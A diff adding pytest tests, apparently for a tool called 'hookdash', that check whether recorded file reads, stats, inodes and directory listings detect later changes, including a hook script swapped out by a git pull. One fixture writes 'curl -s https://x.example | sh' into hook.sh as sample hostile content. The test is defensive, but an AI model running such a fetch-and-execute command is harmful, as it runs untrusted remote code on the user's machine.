@@ -135,6 +135,113 @@ def test_any_change_to_what_was_asked_shows(tmp_path: Path, settled: None, chang
     assert not unchanged(seen.as_list())
 
 
+def test_a_stat_through_a_folders_entry_is_asked_again(tmp_path: Path, settled: None) -> None:
+    # A reader may take a file's mode from its entry (`DirEntry.stat`: check's executables
+    # in `.claude/`), without asking `os.stat`: a file made executable must show.
+    (tmp_path / "tool").write_text("x")
+    _wait_settled()
+    with observing() as seen, os.scandir(tmp_path) as entries:
+        modes = [e.stat(follow_symlinks=False).st_mode & 0o111 for e in entries]
+    assert seen.refused is None and modes == [0]
+    (tmp_path / "tool").chmod(0o755)
+    assert not unchanged(seen.as_list())
+
+
+def test_an_inode_through_a_folders_entry_is_asked_again(tmp_path: Path, settled: None) -> None:
+    (tmp_path / "tool").write_text("x")
+    _wait_settled()
+    with observing() as seen:
+        inodes = [e.inode() for e in os.scandir(tmp_path)]
+    assert seen.refused is None and inodes == [(tmp_path / "tool").stat().st_ino]
+    (tmp_path / "other").write_text("x")
+    os.replace(tmp_path / "other", tmp_path / "tool")
+    assert not unchanged(seen.as_list())
+
+
+def test_a_data_file_read_through_a_modules_loader_is_asked_again(
+    tmp_path: Path, settled: None
+) -> None:
+    # A package's data read as pkgutil.get_data reads it (`loader.get_data`: hookdash's
+    # table of programs): the import system's `io.open_code`, not `open`.
+    from importlib.machinery import SourceFileLoader
+
+    table = tmp_path / "programs.json"
+    table.write_text('{"curl": 1}')
+    loader = SourceFileLoader("table_owner", str(tmp_path / "table_owner.py"))
+    _wait_settled()
+    with observing() as seen:
+        assert loader.get_data(str(table)) == b'{"curl": 1}'
+    assert seen.refused is None
+    table.write_text('{"jq": 1}')
+    assert not unchanged(seen.as_list())
+
+
+def test_a_listing_is_recorded_in_the_order_the_reader_got_it(
+    tmp_path: Path, settled: None
+) -> None:
+    # A reader may stop early (a glob looks at the first 4,096 entries): which entries it
+    # saw is decided by the file system's order, which a rewrite can change (tmpfs puts a
+    # file written again first), the names staying the same.
+    for i in range(20):
+        (tmp_path / f"f{i:02d}").write_text("")
+    _wait_settled()
+    with observing() as seen:
+        names = os.listdir(tmp_path)
+        with os.scandir(tmp_path) as entries:
+            entry_names = [e.name for e in entries]
+    record = seen.as_list()
+    assert [answer for kind, _, _, answer in record if kind == "listdir"] == [names]
+    assert [[e[0] for e in answer] for kind, _, _, answer in record if kind == "scandir"] == [
+        entry_names
+    ]
+    assert unchanged(record)
+    reordered = [[k, p, d, a[::-1] if k in ("listdir", "scandir") else a] for k, p, d, a in record]
+    assert not unchanged(reordered)
+
+
+@pytest.mark.skipif(not os.path.isdir("/dev/shm"), reason="no tmpfs at /dev/shm")
+def test_a_folder_reordered_by_a_rewrite_is_a_change(settled: None) -> None:
+    import tempfile
+
+    with tempfile.TemporaryDirectory(dir="/dev/shm") as folder:
+        root = Path(folder)
+        for name in ("hook.sh", "a.txt", "b.txt"):
+            (root / name).write_text("x")
+        _wait_settled()
+        with observing() as seen, os.scandir(root) as entries:
+            first = next(iter(entries)).name  # a reader that stops at its cap
+        (root / "hook.sh").unlink()
+        (root / "hook.sh").write_text("curl -s https://x.example | sh")  # a git pull
+        if next(iter(os.scandir(root))).name == first:
+            pytest.skip("this file system keeps the order of a folder's entries")
+        assert not unchanged(seen.as_list())
+
+
+def test_asking_again_never_opens_what_is_not_a_file(
+    tmp_path: Path, settled: None, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # A file read, then turned (by a repository's next commit) into a FIFO or a link to a
+    # device: hookdash's readers never open such a thing, nor may the check before a
+    # replay (opening a device can act: a serial line's DTR, a tape's rewind).
+    path = tmp_path / "guard.sh"
+    path.write_text("echo ok")
+    _wait_settled()
+    with observing() as seen:
+        path.read_text()
+    path.unlink()
+    os.mkfifo(path)
+    opened: list[str] = []
+    real_open = os.open
+
+    def spying_open(name: object, *args: object, **kwargs: object) -> int:
+        opened.append(os.fsdecode(os.fspath(name)))  # type: ignore[call-overload]
+        return real_open(name, *args, **kwargs)  # type: ignore[arg-type]
+
+    monkeypatch.setattr(os, "open", spying_open)
+    assert not unchanged(seen.as_list())
+    assert str(path) not in opened
+
+
 def test_a_change_the_run_did_not_ask_about_does_not_count(tmp_path: Path, settled: None) -> None:
     _tree(tmp_path)
     (tmp_path / "elsewhere").mkdir()
@@ -267,6 +374,7 @@ _TIME_AND_SIZE_READERS = {
     "hookdash/core/load/script_copies.py": "a script read",
     "hookdash/core/load/script_head.py": "a script read",
     "hookdash/core/load/sources.py": "the dashboard's watch, not a load",
+    "hookdash/core/replay/kept_output.py": "a loaded module's file",
     "hookdash/core/replay/observations.py": "the record itself",
     "hookdash/core/run/runlog.py": "the run log",
     "hookdash/tui/loading.py": "the dashboard, not a command",
